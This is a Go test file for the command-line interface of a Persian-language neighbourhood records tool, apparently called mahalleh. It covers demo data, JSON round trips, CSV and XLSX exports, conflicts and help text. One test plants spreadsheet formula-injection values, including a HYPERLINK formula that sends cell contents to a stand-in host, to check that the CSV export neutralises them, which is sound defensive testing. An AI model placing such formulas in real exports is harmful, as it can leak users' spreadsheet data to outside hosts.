package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	"mahalleh/data"

	_ "mahalleh/app/clocale" // Fyne quiet under LANG=C.UTF-8, as in the binary
)

// run calls Main in-process and returns the exit code and both outputs.
func run(args ...string) (code int, stdout, stderr string) {
	var o, e bytes.Buffer
	code = Main(args, &o, &e)
	return code, o.String(), e.String()
}

var (
	bigOnce sync.Once
	bigDB   string
	bigJSON []byte
)

// bigStore is a store filled by `demo --size 2000`, and its JSON export,
// made once for the tests that need realistic volume.
func bigStore(t *testing.T) (string, []byte) {
	t.Helper()
	bigOnce.Do(func() {
		dir, err := os.MkdirTemp("", "mahalleh-cli-*")
		if err != nil {
			t.Fatal(err)
		}
		bigDB = filepath.Join(dir, "big.db")
		if code, _, e := run("demo", "--db", bigDB, "--size", "2000", "--seed", "7"); code != 0 {
			t.Fatalf("demo: exit %d: %s", code, e)
		}
		code, out, e := run("export", "--db", bigDB, "--format", "json", "--out", "-")
		if code != 0 {
			t.Fatalf("export: exit %d: %s", code, e)
		}
		bigJSON = []byte(out)
	})
	if bigJSON == nil {
		t.Fatal("the demo store could not be made (see the first failure)")
	}
	return bigDB, bigJSON
}

func TestDemoThenExportHasUUIDv7AndPersian(t *testing.T) {
	_, js := bigStore(t)
	var doc map[string]json.RawMessage
	if err := json.Unmarshal(js, &doc); err != nil {
		t.Fatalf("export is not JSON: %v", err)
	}
	persianMinutes := 0
	for name, body := range doc {
		if data.EntityByName(name) == nil { // the header and the checksum
			continue
		}
		var recs []map[string]any
		if err := json.Unmarshal(body, &recs); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if name == "meetings" && len(recs) < 2000 {
			t.Errorf("meetings: %d, want at least 2000", len(recs))
		}
		for _, r := range recs {
			id, _ := r["id"].(string)
			u, err := uuid.Parse(id)
			if err != nil || u.Version() != 7 || u.Variant() != uuid.RFC4122 {
				t.Fatalf("%s: id %q is not a UUIDv7", name, id)
			}
			if m, _ := r["minutes"].(string); name == "meetings" && isPersian(m) {
				persianMinutes++
			}
		}
	}
	if persianMinutes < 2000 {
		t.Errorf("%d meetings have Persian minutes, want all 2000", persianMinutes)
	}
}

func isPersian(s string) bool {
	n := 0
	for _, r := range s {
		if unicode.Is(unicode.Arabic, r) {
			n++
		}
	}
	return n > 100
}

func TestExportImportExportIsByteIdentical(t *testing.T) {
	_, js := bigStore(t)
	dir := t.TempDir()
	backup := filepath.Join(dir, "backup.json")
	if err := os.WriteFile(backup, js, 0o644); err != nil {
		t.Fatal(err)
	}
	fresh := filepath.Join(dir, "fresh.db")
	code, out, e := run("import", "--db", fresh, backup)
	if code != 0 || !strings.Contains(out, "added") {
		t.Fatalf("import: exit %d: %s %s", code, out, e)
	}
	again := filepath.Join(dir, "again.json")
	if code, _, e := run("export", "--db", fresh, "--format", "json", "--out", again); code != 0 {
		t.Fatalf("export: exit %d: %s", code, e)
	}
	got, _ := os.ReadFile(again)
	if !bytes.Equal(got, js) {
		t.Fatalf("export → import → export differs (%d vs %d bytes)", len(got), len(js))
	}
	code, out, _ = run("import", "--db", fresh, backup)
	if code != 0 || !strings.Contains(out, " 0 added, 0 updated") {
		t.Errorf("importing the same backup again: exit %d, %q; want nothing added or updated", code, out)
	}
}

// TestCSVAndXLSXExports: a list exported as a person reads it, with the
// row count the store gives, and an existing file never replaced without
// --force.
func TestCSVAndXLSXExports(t *testing.T) {
	db := smallStore(t)
	dir := t.TempDir()
	out := filepath.Join(dir, "meetings.csv")
	if code, _, e := run("export", "--db", db, "--format", "csv", "--list", "meetings", "--out", out); code != 0 {
		t.Fatalf("csv: exit %d: %s", code, e)
	}
	b, err := os.ReadFile(out)
	if err != nil || !strings.HasPrefix(string(b), "\ufeffتاریخ,ساعت,تاریخ میلادی,") || !isPersian(string(b)) {
		t.Fatalf("meetings.csv: %v, starts %q", err, string(b[:min(len(b), 40)]))
	}
	rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil || len(rows) != 21 {
		t.Errorf("meetings.csv: %d rows (%v), want a header and the 20 demo meetings", len(rows), err)
	}
	if code, _, e := run("export", "--db", db, "--format", "csv", "--list", "people", "--out", out); code != 1 || !strings.Contains(e, "--force") {
		t.Errorf("csv over an existing file: exit %d %q, want 1 and a hint to --force", code, e)
	}
	if after, _ := os.ReadFile(out); !bytes.Equal(after, b) {
		t.Error("the existing file was changed")
	}
	if code, _, e := run("export", "--db", db, "--format", "csv", "--list", "people", "--out", out, "--force"); code != 0 {
		t.Errorf("csv --force: exit %d: %s", code, e)
	}
	if code, _, _ := run("export", "--db", db, "--format", "csv", "--out", filepath.Join(dir, "x.csv")); code != 2 {
		t.Errorf("csv without --list: exit %d, want 2", code)
	}
	xlsx := filepath.Join(dir, "all.xlsx")
	if code, _, e := run("export", "--db", db, "--format=xlsx", "--lang", "en", "--out", xlsx); code != 0 {
		t.Fatalf("xlsx: exit %d: %s", code, e)
	}
	wb, err := excelize.OpenFile(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	if got := wb.GetSheetList(); !slices.Equal(got, []string{"Meetings", "People", "Concerns", "Action items", "Projects"}) {
		t.Errorf("sheets %q", got)
	}
	if m, _ := wb.GetRows("Meetings"); len(m) != 21 || m[0][0] != "Date" {
		t.Errorf("Meetings sheet: %d rows, header %q", len(m), m[0])
	}
}

// smallStore is a fresh store with a little demo data.
func smallStore(t *testing.T) string {
	t.Helper()
	db := filepath.Join(t.TempDir(), "small.db")
	if code, _, e := run("demo", "--db", db, "--size", "20"); code != 0 {
		t.Fatalf("demo: exit %d: %s", code, e)
	}
	return db
}

func TestConflictsListsOpenAndAll(t *testing.T) {
	db := smallStore(t)
	s, err := data.Open(db)
	if err != nil {
		t.Fatal(err)
	}
	id := uuid.Must(uuid.NewV7()).String()
	err = s.Write(context.Background(), "test", func(w *data.Writer) error {
		for _, st := range []string{"open", "resolved"} {
			if _, err := w.Save("conflicts", map[string]any{"district": 14, "entity": "meetings", "record_id": id,
				"field": "minutes_" + st, "kept_value": "متن نگه‌داشته", "lost_value": "متن دیگر", "lost_by": "رابط ناحیه ۲", "state": st}); err != nil {
				return err
			}
		}
		return nil
	})
	s.Close()
	if err != nil {
		t.Fatal(err)
	}
	code, out, _ := run("conflicts", "--db", db)
	if code != 0 || !strings.Contains(out, "minutes_open") || strings.Contains(out, "minutes_resolved") || !strings.Contains(out, "رابط ناحیه ۲") {
		t.Errorf("conflicts: exit %d\n%s", code, out)
	}
	code, out, _ = run("conflicts", "--db", db, "--all")
	if code != 0 || !strings.Contains(out, "minutes_resolved") {
		t.Errorf("conflicts --all: exit %d\n%s", code, out)
	}
}

func TestHelpAndUsage(t *testing.T) {
	for _, args := range [][]string{{"--help"}, {"help"}, {"demo", "--help"}, {"export", "--help"}, {"import", "--help"}, {"conflicts", "--help"}, {"help", "export"}} {
		code, out, _ := run(args...)
		if code != 0 || !strings.Contains(out, "usage") {
			t.Errorf("%v: exit %d, output %q", args, code, out)
		}
	}
	_, out, _ := run("export", "--help")
	if !strings.Contains(out, "خروجی") || !strings.Contains(out, "-format") {
		t.Errorf("export --help lacks the Persian name or the options: %q", out)
	}
	for _, args := range [][]string{{}, {"nonsense"}, {"demo"}, {"export", "--format", "json", "--out", "x"}, {"import", "x.json"},
		{"conflicts"}, {"demo", "--db", "x.db", "--size", "many"}, {"export", "--db", "x.db", "--format", "pdf", "--out", "x"}} {
		code, _, e := run(args...)
		if code != 2 || !strings.Contains(e, "خطا:") || !strings.Contains(e, "error:") {
			t.Errorf("%v: exit %d, stderr %q; want 2 and a message in both languages", args, code, e)
		}
	}
}

func TestExportNeverCreatesAMissingStore(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "typo.db")
	for _, args := range [][]string{{"export", "--db", db, "--out", filepath.Join(dir, "x.json")}, {"conflicts", "--db", db}} {
		code, _, e := run(args...)
		if code != 1 || !strings.Contains(e, "پیدا نشد") || !strings.Contains(e, "not found") {
			t.Errorf("%v: exit %d, %q", args, code, e)
		}
	}
	if _, err := os.Stat(db); !os.IsNotExist(err) {
		t.Errorf("a store was created at %s", db)
	}
}

// TestCSVExportNeutralisesFormulas: text that starts like a spreadsheet
// formula reaches the CSV file with a leading apostrophe (so Excel shows it
// instead of running it); the XLSX file keeps it as typed text.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	db := filepath.Join(t.TempDir(), "f.db")
	s, err := data.Open(db)
	if err != nil {
		t.Fatal(err)
	}
	typed := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+98 21 5555", "-2+3", "@SUM(A1:A2)", "\tTAB"}
	err = s.Write(context.Background(), "test", func(w *data.Writer) error {
		for _, name := range typed {
			if _, err := w.Save("people", map[string]any{"district": 14, "name": name, "role": "resident"}); err != nil {
				return err
			}
		}
		return nil
	})
	s.Close()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "people.csv")
	if code, _, e := run("export", "--db", db, "--format", "csv", "--list", "people", "--lang", "en", "--out", path); code != 0 {
		t.Fatalf("csv: exit %d: %s", code, e)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(rows[0], "\ufeffName")
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[col])
	}
	for _, name := range typed {
		if !slices.Contains(got, "'"+name) {
			t.Errorf("%q is not neutralised in the CSV: names %q", name, got)
		}
	}
	xlsx := filepath.Join(t.TempDir(), "all.xlsx")
	if code, _, e := run("export", "--db", db, "--format", "xlsx", "--list", "people", "--lang", "en", "--out", xlsx); code != 0 {
		t.Fatalf("xlsx: exit %d: %s", code, e)
	}
	wb, err := excelize.OpenFile(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	sheet, err := wb.GetRows("People")
	if err != nil {
		t.Fatal(err)
	}
	var inBook []string
	for _, r := range sheet[1:] {
		inBook = append(inBook, r[col])
	}
	for _, name := range typed {
		if !slices.Contains(inBook, name) {
			t.Errorf("%q is not kept as typed in the XLSX: names %q", name, inBook)
		}
	}
}
